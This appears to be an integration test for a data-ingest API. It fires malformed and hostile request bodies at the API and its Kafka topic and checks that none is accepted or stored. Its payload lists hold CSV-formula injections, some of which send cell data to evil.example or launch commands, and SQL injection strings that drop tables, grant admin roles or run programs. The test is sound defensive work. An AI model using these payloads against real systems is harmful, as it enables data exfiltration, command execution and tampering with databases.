"""Thousands of hostile bodies at once, over HTTP and straight into Kafka: never a 5xx, no
process dies, nothing of them is stored; readings whose labels and sources are full of SQL
metacharacters are valid, and stored exactly as sent.

(tests/integration/ingest/test_fuzz.py draws mostly-good records with hypothesis and checks
the accepted ones reach the database; here every body is built to be refused, by family:
broken JSON, deep nesting, bodies over the limit, wrong types, text that is not UTF-8,
spreadsheet formulas; sent by eight clients in parallel.)
"""

from __future__ import annotations

import json
import random
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import orjson
import psycopg
import pytest
from kafka import KafkaProducer

from services.settings import Settings
from tests.fixtures.keys import MakeKey
from tests.fixtures.services import Proc, service_env, start_api, start_service, wait_for

pytestmark = [pytest.mark.integration, pytest.mark.slow]

LIMITS = {"ONTRACK_MAX_BODY_BYTES": "65536", "ONTRACK_MAX_BATCH": "500"}
BAD_MONTH = datetime(2023, 3, 1, tzinfo=UTC)  # every hostile reading is stamped in March 2023
SQL_MONTH = datetime(2023, 4, 1, tzinfo=UTC)  # the valid SQL-metacharacter ones in April
SENTINEL_MONTH = datetime(2023, 5, 1, tzinfo=UTC)
PROBLEM = "application/problem+json"


@dataclass(frozen=True)
class Body:
    family: str
    content_type: str
    payload: bytes
    for_its_header: bool = False  # refused for its Content-Type alone: the payload is good


def good(rng: random.Random, **over: Any) -> dict[str, Any]:
    rec = {
        "indicator": "air.pm25",
        "source": f"hostile-{rng.randrange(50)}",
        "ts": (BAD_MONTH + timedelta(minutes=rng.randrange(40_000))).isoformat(),
        "value": rng.randrange(1, 300),
        "unit": "µg/m³",
    }
    rec.update(over)
    return rec


# --- the families ------------------------------------------------------------------------


def broken_json(rng: random.Random) -> Iterator[Body]:
    """Valid bodies broken so that no JSON parser may accept them."""
    for _ in range(500):
        doc = orjson.dumps([good(rng) for _ in range(rng.randrange(1, 4))])
        cut = rng.randrange(1, len(doc) - 1)
        mutated = rng.choice(
            [
                doc[:cut],  # truncated
                doc[:-1] + b",]",  # trailing comma
                doc.replace(b'"', b"'", 1),  # single quotes
                doc + b"]",  # trailing garbage
                doc[:cut] + bytes([rng.randrange(0, 32)]) + doc[cut:],  # a raw control byte
                doc.replace(b":", b"", 1),
                b"{" * rng.randrange(1, 50),
            ]
        )
        yield Body("broken JSON", rng.choice(["application/json", "application/x-ndjson"]), mutated)


def nested(depth: int) -> str:
    """JSON text of a value ``depth`` levels deep (objects and arrays in turn)."""
    opening = "".join('{"a":' if i % 2 else "[" for i in range(depth))
    closing = "".join("}" if i % 2 else "]" for i in reversed(range(depth)))
    return opening + "1" + closing


def deep_nesting(rng: random.Random) -> Iterator[Body]:
    """Records nested 30 to 200 000 levels deep, in every field and at the top."""
    fields = ["value", "labels", "source", "ts", "unit", "indicator", "region", "id", "extra"]
    for depth in (30, 100, 254, 255, 300, 500, 900, 999, 1000, 1020, 1023):
        for field in fields:
            rec = good(rng, **{field: "NEST"})
            inner = nested(depth) if field != "labels" else '{"x":' + nested(depth) + "}"
            text = json.dumps(rec).replace('"NEST"', inner)
            yield Body("deep nesting", "application/json", f"[{text}]".encode())
            yield Body("deep nesting", "application/x-ndjson", text.encode())
    for depth in (1024, 1025, 5000, 200_000):
        yield Body("deep nesting", "application/json", nested(depth).encode())


def oversized(rng: random.Random) -> Iterator[Body]:
    """Over the body limit (64 KiB here), declared or chunked; batches over 500 readings."""
    for _ in range(60):
        n = rng.randrange(600, 1200)
        yield Body("oversized", "application/json", orjson.dumps([good(rng) for _ in range(n)]))
    for size in (65_537, 70_000, 200_000, 1_000_000):
        yield Body("oversized", "application/json", b"[" + b" " * size + b"]")
        yield Body("oversized", "text/csv", b"indicator,ts,value,unit,source\n" + b"x" * size)
    for _ in range(40):
        records = [good(rng) for _ in range(501)]
        yield Body("oversized", "application/x-ndjson", b"\n".join(map(orjson.dumps, records)))
    long_text = "x" * 60_000
    for field in ("source", "unit", "region", "id", "ts", "indicator"):
        yield Body("oversized", "application/json", orjson.dumps([good(rng, **{field: long_text})]))


WRONG = {
    "indicator": [None, 5, True, [], {}, "", "AIR.PM25", "air.pm25 "],
    "ts": [None, 0, 1_700_000_000, True, [], {}, "", "yesterday", "2023-03-01", "2023-03-01T00:00"],
    "value": [None, True, False, [], {}, "", "abc", "NaN", "1e999", [1], {"v": 1}, "12 µg"],
    "unit": [None, 5, [], {}, "", "kg"],
    "source": [None, 5, [], {}, "", " padded", "tab\there", "nul\x00", "zero\u200bwidth"],
    "region": [5, [], {}, "", "\n"],
    "id": [5, [], {}, ""],
    "labels": [[], "x", 5, {"a": 5}, {"a": None}, {"a": []}, {"": "x"}, {"a": "\x00"}],
}


def wrong_types(rng: random.Random) -> Iterator[Body]:
    """One field of a good record replaced by a value of the wrong type or shape."""
    for field, values in WRONG.items():
        for value in values:
            for _ in range(4):
                rec = good(rng, **{field: value})
                yield Body("wrong types", "application/json", orjson.dumps([rec]))
                yield Body("wrong types", "application/x-ndjson", orjson.dumps(rec))
    for junk in (None, 1, "x", True, [], [[]], [None], [1, 2], {"readings": {}}, {"readings": 1}):
        yield Body("wrong types", "application/json", orjson.dumps(junk))


def _encodings(rng: random.Random) -> Iterator[bytes]:
    text = json.dumps([good(rng, region="市南区")], ensure_ascii=False)
    yield text.encode("utf-16")
    yield text.encode("utf-16-le")
    yield text.encode("utf-32")
    yield text.encode("gb18030")
    yield text.replace("市南区", "café").encode("latin-1")
    yield text.encode("utf-8").replace("市".encode(), b"\xc0\xaf")  # overlong
    yield text.encode("utf-8").replace("市".encode(), "市".encode()[:2])  # truncated sequence
    yield text.encode("utf-8").replace(b"hostile", b"hostile\xff\xfe")
    yield text.replace("市南区", "\ud800").encode("utf-8", "surrogatepass")  # a lone surrogate


def not_utf8(rng: random.Random) -> Iterator[Body]:
    """Text in other encodings, broken UTF-8, and charsets ontrack does not take."""
    for _ in range(40):
        for payload in _encodings(rng):
            ctype = rng.choice(["application/json", "application/x-ndjson", "text/csv"])
            yield Body("not UTF-8", ctype, payload)
        rec = good(rng)
        csv = "indicator,ts,value,unit,source,region\n" + ",".join(
            str(rec[k]) for k in ("indicator", "ts", "value", "unit", "source")
        )
        yield Body("not UTF-8", "text/csv", (csv + ",Montréal\n").encode("latin-1"))
        good_payload = orjson.dumps([rec])
        for charset in ("latin-1", "utf-16", "gbk"):
            ctype = f"application/json; charset={charset}"
            yield Body("not UTF-8", ctype, good_payload, for_its_header=True)
        yield Body("not UTF-8", "application/octet-stream", good_payload, for_its_header=True)
        yield Body("not UTF-8", "", good_payload, for_its_header=True)


FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    "@A1",
    "-A1",
    "+A1",
    "\t=1+1",
    "\r=1+1",
]


def formulas(rng: random.Random) -> Iterator[Body]:
    """Spreadsheet formulas in every text column of a CSV (and in JSON)."""
    header = "indicator,ts,value,unit,source,region,id,label.note"
    for formula in FORMULAS:
        for column in ("source", "region", "id", "label.note"):
            for _ in range(8):
                rec = good(rng)
                cells = {
                    "indicator": rec["indicator"],
                    "ts": rec["ts"],
                    "value": str(rec["value"]),
                    "unit": rec["unit"],
                    "source": rec["source"],
                    "region": "shinan",
                    "id": f"r{rng.randrange(10**6)}",
                    "label.note": "ok",
                    column: formula,
                }
                row = ",".join('"' + cells[c].replace('"', '""') + '"' for c in header.split(","))
                yield Body("CSV formulas", "text/csv", f"{header}\n{row}\n".encode())
                field = column.removeprefix("label.")
                if column.startswith("label."):
                    over: dict[str, Any] = {"labels": {field: formula}}
                else:
                    over = {field: formula}
                yield Body("CSV formulas", "application/json", orjson.dumps([good(rng, **over)]))


FAMILIES: list[Callable[[random.Random], Iterator[Body]]] = [
    broken_json,
    deep_nesting,
    oversized,
    wrong_types,
    not_utf8,
    formulas,
]

SQL = [
    "'; DROP TABLE observations; --",
    '" OR 1=1 --',
    "1'; UPDATE api_keys SET roles='{admin}' WHERE '1'='1",
    "$$; SELECT pg_sleep(10); $$",
    "\\'; TRUNCATE alerts; --",
    "%_%' ESCAPE '\\",
    "a' || (SELECT current_user) || 'b",
    "E'\\x41'",
    "$1::text",
    ")); COPY observations TO PROGRAM 'id'; --",
    "/* */ UNION SELECT * FROM api_keys --",
    ":name; \\gexec",
]


def sql_readings() -> list[dict[str, Any]]:
    """Valid readings whose labels and sources are made of SQL metacharacters."""
    out = []
    for i, text in enumerate(SQL):
        out.append(
            {
                "indicator": "air.pm25",
                "source": f"sqlmeta-{i}-{text}"[:128].strip(),
                "ts": (SQL_MONTH + timedelta(hours=i)).isoformat(),
                "value": 10 + i,
                "unit": "µg/m³",
                "region": text[:64].strip() if not text.startswith(("-", "+", "=", "@")) else None,
                "labels": {"note": text, text[:64].strip(): "x"},
            }
        )
    return out


# --- the test ----------------------------------------------------------------------------


def send_all(url: str, token: str, bodies: list[Body]) -> list[tuple[Body, int, str, str]]:
    def send(chunk: list[Body]) -> list[tuple[Body, int, str, str]]:
        out = []
        with httpx.Client(base_url=url, timeout=60) as http:
            for b in chunk:
                headers = {"authorization": f"Bearer {token}"}
                if b.content_type:
                    headers["content-type"] = b.content_type
                try:
                    resp = http.post("/v1/readings", content=b.payload, headers=headers)
                except httpx.TransportError as exc:  # counted as a failure of the API
                    out.append((b, 0, "", f"{type(exc).__name__}: {exc}"))
                    continue
                out.append((b, resp.status_code, resp.headers.get("content-type", ""), resp.text))
        return out

    chunks = [bodies[i::8] for i in range(8)]
    with ThreadPoolExecutor(8) as pool:
        return [answer for part in pool.map(send, chunks) for answer in part]


def rows_in(dsn: str, month: datetime) -> list[tuple[Any, ...]]:
    with psycopg.connect(dsn) as conn:
        return conn.execute(
            "SELECT source, ts, value, region, labels FROM observations"
            " WHERE ts >= %s AND ts < %s ORDER BY ts",
            [month, month + timedelta(days=28)],
        ).fetchall()


def kafka_native(rng: random.Random, bodies: list[Body]) -> list[bytes]:
    """What a Kafka-native producer might put on the topic: the same hostile bodies."""
    picked = [b.payload for b in bodies if b.family != "oversized" and not b.for_its_header]
    return rng.sample(picked, 400) + [b"", b"\x00" * 10, b"null", b"[]", b"{}"]


def sentinel(partition: int) -> bytes:
    """A good Kafka-native reading: once stored, everything before it in its partition is done."""
    ts = (SENTINEL_MONTH + timedelta(hours=partition)).isoformat()
    rec = {"indicator": "air.pm25", "source": "hostile-sentinel", "ts": ts, "value": 1}
    return orjson.dumps({**rec, "unit": "µg/m³"})


def test_hostile_bodies_are_refused_without_a_5xx_and_nothing_is_stored(
    settings: Settings,
    spawn: Callable[..., Proc],
    private_topics: Callable[..., Settings],
    make_key: MakeKey,
    record: Callable[[object], None],
) -> None:
    s = private_topics(settings)
    env = service_env(s, **LIMITS)
    url, api = start_api(spawn, env, name="api-hostile")
    worker = start_service(spawn, "worker-hostile", ["worker"], env)
    token = make_key("hostile-feeds")
    rng = random.Random(20261201)
    bodies = [b for family in FAMILIES for b in family(rng)]
    rng.shuffle(bodies)

    answers = send_all(url, token, bodies)
    native = kafka_native(rng, bodies)
    producer = KafkaProducer(bootstrap_servers=s.kafka_bootstrap, max_request_size=8 << 20)
    for payload in native:
        producer.send(s.topic_readings, payload)
    for partition in range(s.topic_partitions):
        producer.send(s.topic_readings, sentinel(partition), partition=partition)
    producer.flush(30)
    producer.close()
    valid = sql_readings()
    meta = httpx.post(
        url + "/v1/readings", json=valid, headers={"authorization": f"Bearer {token}"}, timeout=30
    )

    by_family: dict[str, Counter[int]] = {}
    for body, status, *_ in answers:
        by_family.setdefault(body.family, Counter())[status] += 1
    server_errors = [
        (b.family, len(b.payload), b.payload[:120], st, t[:300])
        for b, st, _, t in answers
        if st >= 500 or st == 0
    ]
    accepted = [  # an empty batch is answered 202 with nothing accepted: that is fine
        (b.family, b.payload[:200], t[:300])
        for b, st, _, t in answers
        if st == 202 and orjson.loads(t)["accepted"]
    ]
    assert not server_errors, (
        Counter((f, st) for f, _, _, st, _ in server_errors),
        Counter((f, n) for f, n, _, st, _ in server_errors if st == 0).most_common(20),
    )
    assert not accepted, accepted[:5]
    for body, status, ctype, text in answers:
        if status == 202:
            continue
        assert ctype == PROBLEM, (body.family, body.payload[:120], text[:200])
        doc = orjson.loads(text)
        assert doc["title"] and doc["detail"], text

    assert meta.status_code == 202 and meta.json()["accepted"] == len(valid), meta.text
    wait_for(lambda: len(rows_in(s.dsn, SQL_MONTH)) == len(valid), 60, "the SQL-metachar rows")
    stored = {(r[0], r[1].astimezone(UTC)): r for r in rows_in(s.dsn, SQL_MONTH)}
    for v in valid:
        row = stored[(v["source"], datetime.fromisoformat(v["ts"]))]
        assert (row[3], row[4]) == (v["region"], v["labels"]), (v, row)  # verbatim

    def dead_lettered() -> int:
        assert worker.popen.poll() is None, worker.tail()
        text = httpx.get(f"http://127.0.0.1:{worker.port}/metrics", timeout=5).text
        return int(
            sum(
                float(line.rsplit(" ", 1)[1])
                for line in text.splitlines()
                if line.startswith("ontrack_stream_dead_lettered_total{")
            )
        )

    wait_for(
        lambda: len(rows_in(s.dsn, SENTINEL_MONTH)) == s.topic_partitions,
        120,
        "the worker past the Kafka-native junk (a sentinel per partition stored)",
    )
    empty = sum(1 for p in native if p == b"[]")  # holds no record to dead-letter
    assert dead_lettered() >= len(native) - empty
    assert rows_in(s.dsn, BAD_MONTH) == [], "a hostile reading was stored"
    assert api.popen.poll() is None, api.tail()
    assert worker.popen.poll() is None, worker.tail()
    with psycopg.connect(s.dsn) as conn:  # the tables the SQL texts name are all still there
        for table in ("observations", "api_keys", "alerts"):
            conn.execute(f"SELECT 1 FROM {table} LIMIT 1")  # noqa: S608 - constant names

    result = HostileResult(
        sent=len(answers) + len(native),
        http=len(answers),
        kafka_native=len(native),
        server_errors=len(server_errors),
        accepted=len(accepted),
        stored=len(rows_in(s.dsn, BAD_MONTH)),
        dead_lettered=dead_lettered(),
        sql_meta_stored_verbatim=len(valid),
        by_family={f: dict(c) for f, c in by_family.items()},
    )
    record(result)


@dataclass
class HostileResult:
    sent: int
    http: int
    kafka_native: int
    server_errors: int
    accepted: int
    stored: int
    dead_lettered: int
    sql_meta_stored_verbatim: int
    by_family: dict[str, dict[int, int]]

    def as_dict(self) -> dict[str, Any]:
        return dict(self.__dict__)

    def line(self) -> str:
        families = "; ".join(
            f"{f}: " + " ".join(f"{st}x{n}" for st, n in sorted(c.items()))
            for f, c in self.by_family.items()
        )
        return (
            f"hostile input: sent={self.sent} (HTTP {self.http}, Kafka-native "
            f"{self.kafka_native}) 5xx={self.server_errors} accepted={self.accepted} "
            f"stored={self.stored} dead_lettered={self.dead_lettered} "
            f"sql_meta_stored_verbatim={self.sql_meta_stored_verbatim} [{families}]"
        )
